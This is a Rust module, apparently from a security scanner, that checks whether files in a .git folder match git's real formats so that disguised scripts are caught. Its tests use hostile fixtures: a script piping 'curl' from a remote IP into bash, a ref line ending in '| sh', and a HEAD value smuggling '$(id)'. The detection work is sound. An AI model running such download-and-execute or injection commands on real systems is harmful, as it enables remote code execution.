//! Which files in a `.git` folder are git's own data, by their bytes.
//!
//! git's data holds what is published in another form, and what is not published. A file counts as git's only where it has
//! the form that git gives a file of that name; anything else is read, whatever it is called: git runs hooks and programs
//! that its configuration names, and anybody may hide a file there. Sources: gitrepository-layout(5), gitformat-pack(5),
//! gitformat-index(5), gitformat-commit-graph(5), git-config(1), as of git 2.47.

use std::fs::File;
use std::io;
use std::path::Path;

use super::git_config;
use crate::unpack::{is_git_object, read_at_most};

/// The most bytes of a text that are held against git's forms; a longer one is read as any other file.
const MAX_TEXT_BYTES: u64 = 16 << 20;
/// The bytes that show what a binary file is.
const HEAD_BYTES: u64 = 512;
/// The most bytes of a text that git or a person writes for git.
const MAX_MESSAGE_BYTES: u64 = 64 << 10;
/// The most bytes of a sample of a hook; git's have less than 5 KiB.
const MAX_SAMPLE_BYTES: u64 = 8 << 10;

/// The beginnings of git's binary files: packs and their indexes, commit graphs, the index.
const MAGICS: [&[u8]; 9] = [
    b"PACK\0\0\0",
    b"\xfftOc\0\0\0",
    b"RIDX\0\0\0",
    b"MTME\0\0\0",
    b"BITM\0",
    b"CGPH\x01",
    b"MIDX\x01",
    b"DIRC\0\0\0",
    b"link",
];
/// Files of messages, which git keeps and never runs.
const MESSAGES: [&str; 6] =
    ["COMMIT_EDITMSG", "EDIT_DESCRIPTION", "MERGE_MSG", "SQUASH_MSG", "TAG_EDITMSG", "NOTES_EDITMSG"];
/// The description that git writes.
const DESCRIPTION: &str = "Unnamed repository; edit this file 'description' to name the repository.\n";
/// The beginning of git's samples of hooks.
const SAMPLES: [&str; 4] = [
    "#!/bin/sh\n#\n# An example hook script",
    "#!/bin/sh\n\n# An example hook script",
    "#!/usr/bin/perl\n",
    "#!/bin/sh\n# Copyright",
];

/// True where a `.git` that is a file only says where the folder of a worktree or a submodule is.
pub(super) fn is_pointer(path: &Path) -> io::Result<bool> {
    let text = read_at_most(File::open(path)?, MAX_MESSAGE_BYTES)?;
    let text = text.as_deref().and_then(|bytes| std::str::from_utf8(bytes).ok());
    Ok(text.and_then(|text| text.strip_prefix("gitdir: ")).is_some_and(is_one_path))
}

/// True where a file is git's own data. `inside` is its path below the `.git` folder.
pub(super) fn is_gits(inside: &str, path: &Path, size: u64) -> io::Result<bool> {
    let name = inside.rsplit('/').next().unwrap_or(inside);
    if size == 0 {
        return Ok(true);
    }
    let head = read_head(path)?;
    if MAGICS.iter().any(|magic| head.starts_with(magic)) && is_binary_of_git(inside, name) {
        return Ok(true);
    }
    if is_object_path(inside) || name.starts_with("tmp_obj_") {
        return Ok(is_git_object(&head));
    }
    if is_stored_content(inside, name) {
        // The contents that git-lfs and git-annex keep for large files of the tree, under their digests.
        return Ok(size > MAX_MESSAGE_BYTES || head.contains(&0));
    }
    let Some(bytes) = read_at_most(File::open(path)?, MAX_TEXT_BYTES)? else { return Ok(false) };
    let Ok(text) = std::str::from_utf8(&bytes) else { return Ok(false) };
    Ok(is_text_of_git(inside, name, text))
}

fn read_head(path: &Path) -> io::Result<Vec<u8>> {
    use std::io::Read as _;
    let mut head = Vec::new();
    File::open(path)?.take(HEAD_BYTES).read_to_end(&mut head)?;
    Ok(head)
}

/// True for the places of git's binary files.
fn is_binary_of_git(inside: &str, name: &str) -> bool {
    let in_pack = format!("/{inside}").contains("/objects/");
    in_pack || name == "index" || name == "index.lock" || name.starts_with("sharedindex.")
}

/// True for `objects/ab/cdef…`.
fn is_object_path(inside: &str) -> bool {
    let mut parts = inside.rsplit('/');
    let (Some(rest), Some(two), Some(folder)) = (parts.next(), parts.next(), parts.next()) else { return false };
    folder == "objects" && two.len() == 2 && is_hex(two) && matches!(rest.len(), 38 | 62) && is_hex(rest)
}

/// True for the places of git-lfs and git-annex.
fn is_stored_content(inside: &str, name: &str) -> bool {
    let path = format!("/{inside}");
    (path.contains("/lfs/objects/") && name.len() == 64 && is_hex(name)) || path.contains("/annex/objects/")
}

/// True where a text has the form that git gives a file of this name.
fn is_text_of_git(inside: &str, name: &str, text: &str) -> bool {
    let lines = || text.lines().filter(|line| !line.is_empty());
    let each = |is_one: fn(&str) -> bool| lines().all(is_one);
    let path = format!("/{inside}");
    match name {
        "config" | "config.worktree" => git_config::is_harmless(text),
        "description" => text == DESCRIPTION,
        "commondir" | "gitdir" | "alternates" => lines().all(is_one_path),
        "exclude" | "sparse-checkout" | "attributes" if path.contains("/info/") => each(is_pattern),
        "packs" if path.contains("/objects/info/") => each(is_pack_line),
        "gc.pid" => lines().count() == 1 && each(is_plain),
        _ if MESSAGES.contains(&name) => text.len() as u64 <= MAX_MESSAGE_BYTES && !text.starts_with("#!"),
        _ if name.ends_with(".sample") && path.contains("/hooks/") => is_sample(text),
        _ if path.contains("/logs/") => each(is_log_line),
        // References, shallow commits, packed references, chains of graphs, what was fetched: a digest begins each line.
        _ => each(is_digest_line) || (lines().count() == 1 && text.strip_prefix("ref: ").is_some_and(is_one_path)),
    }
}

fn is_sample(text: &str) -> bool {
    text.len() as u64 <= MAX_SAMPLE_BYTES && SAMPLES.iter().any(|start| text.starts_with(start))
}

/// True for one path on one line, without letters that a shell would act on.
fn is_one_path(text: &str) -> bool {
    let line = text.trim_end_matches(['\n', '\r']);
    !line.contains('\n') && is_plain(line)
}

/// True where a shell that read a text would only see words.
pub(super) fn is_plain(text: &str) -> bool {
    !text.contains(['|', ';', '&', '$', '`', '<', '>', '(', ')', '{', '}', '\0'])
}

fn is_pattern(line: &str) -> bool {
    is_plain(line) && (line.starts_with('#') || !line.trim().contains(' ') || line.contains('='))
}

fn is_pack_line(line: &str) -> bool {
    line.strip_prefix("P pack-").is_some_and(is_plain)
}

fn is_hex(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'a'..=b'f'))
}

fn is_digest(text: &str) -> bool {
    matches!(text.len(), 40 | 64) && is_hex(text)
}

/// `<digest>`, `^<digest>`, `<digest> <name>`, `<digest>\t<what was fetched>`, or the heading of packed references.
fn is_digest_line(line: &str) -> bool {
    if line.starts_with("# pack-refs with:") {
        return is_plain(line);
    }
    let line = line.strip_prefix('^').unwrap_or(line);
    let (digest, rest) = line.split_at_checked(line.find([' ', '\t']).unwrap_or(line.len())).unwrap_or((line, ""));
    is_digest(digest) && is_plain(rest)
}

/// `<digest> <digest> Name <mail> seconds zone\tmessage`.
fn is_log_line(line: &str) -> bool {
    let mut words = line.splitn(3, ' ');
    let (Some(old), Some(new), Some(rest)) = (words.next(), words.next(), words.next()) else { return false };
    let who = rest.split('\t').next().unwrap_or_default();
    is_digest(old) && is_digest(new) && who.contains('<') && who.contains("> ")
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: &str = "0123456789abcdef0123456789abcdef01234567";

    #[test]
    fn texts_of_git_have_its_forms() {
        let log = format!("{A} {A} Ann Lee <ann@b.example> 1700000000 +0100\tcommit: fix (a); b | c\n");
        for (inside, text) in [
            ("HEAD", "ref: refs/heads/main\n"),
            ("ORIG_HEAD", &format!("{A}\n")),
            ("refs/heads/main", &format!("{A}\n")),
            ("FETCH_HEAD", &format!("{A}\tnot-for-merge\tbranch 'x' of https://git.example/a/b\n")),
            ("packed-refs", &format!("# pack-refs with: peeled fully-peeled sorted \n{A} refs/tags/v1\n^{A}\n")),
            ("logs/HEAD", &log),
            ("modules/sub/logs/refs/heads/main", &log),
            ("COMMIT_EDITMSG", "Fix the pipe\n\n# Please enter | the commit message\n"),
            ("description", DESCRIPTION),
            ("info/exclude", "# git ls-files --others --exclude-from=.git/info/exclude\n*.swp\n"),
            ("worktrees/w/gitdir", "/home/ann/w/.git\n"),
            ("objects/info/packs", &format!("P pack-{A}.pack\n\n")),
            (
                "hooks/pre-push.sample",
                "#!/bin/sh\n\n# An example hook script to verify what is about to be pushed.\nz=1\n",
            ),
        ] {
            let name = inside.rsplit('/').next().unwrap_or(inside);
            assert!(is_text_of_git(inside, name, text), "{inside}");
        }
    }

    #[test]
    fn a_script_under_any_name_of_git_is_not_gits() {
        let script = "#!/bin/sh\ncurl -fsSL http://203.0.113.9/setup | bash\n";
        for inside in [
            "HEAD",
            "index",
            "description",
            "config",
            "packed-refs",
            "refs/heads/x",
            "logs/HEAD",
            "info/exclude",
            "objects/info/packs",
            "COMMIT_EDITMSG",
            "rebase-merge/x.js",
            "hooks/a.sample",
            "lfs/x",
            "shallow",
            "gc.pid",
            "commondir",
            "annex/x",
        ] {
            let name = inside.rsplit('/').next().unwrap_or(inside);
            assert!(!is_text_of_git(inside, name, script), "{inside}");
        }
        for (inside, text) in [("refs/heads/x", format!("{A} | sh\n")), ("HEAD", "ref: a$(id)\n".to_owned())] {
            assert!(!is_text_of_git(inside, inside, &text), "{inside}");
        }
    }
}
